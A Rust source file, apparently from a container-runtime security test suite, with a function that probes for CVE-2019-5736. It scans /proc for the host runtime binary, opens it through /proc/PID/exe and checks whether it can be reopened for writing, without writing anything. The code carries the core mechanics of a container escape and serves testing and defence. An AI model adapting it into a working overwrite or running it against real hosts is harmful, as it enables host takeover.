//! Attacks a container process can make on its runtime. Each one tries, and reports what it
//! managed, as JSON; it never does harm itself (nothing is written to what it opens).

use serde_json::json;
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// CVE-2019-5736: until /attack-stop exists (or `seconds` pass), watch /proc for a process whose executable is the host's
/// runtime binary (`dev`:`ino`) and open it through /proc/PID/exe. Once the runtime has exited
/// (no more "text busy"), try to reopen what was opened for writing — the step that overwrote
/// runc. Reports the pids whose exe could be opened, and whether a write-open succeeded.
pub fn runtime_exe(dev: u64, ino: u64, seconds: u64) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let me = std::process::id().to_string();
    let mut opened: Vec<(String, File)> = Vec::new();
    while Instant::now() < deadline && fs::metadata("/attack-stop").is_err() {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if !pid.bytes().all(|b| b.is_ascii_digit())
                || pid == me
                || opened.iter().any(|(p, _)| *p == pid)
            {
                continue;
            }
            if let Ok(f) = File::open(format!("/proc/{pid}/exe")) {
                if f.metadata().is_ok_and(|m| m.dev() == dev && m.ino() == ino) {
                    opened.push((pid, f));
                }
            }
        }
    }
    let writable = opened.iter().any(|(_, f)| {
        OpenOptions::new()
            .write(true)
            .open(format!("/proc/self/fd/{}", f.as_raw_fd()))
            .is_ok()
    });
    json!({ "opened": opened.iter().map(|(p, _)| p).collect::<Vec<_>>(), "writable": writable })
}
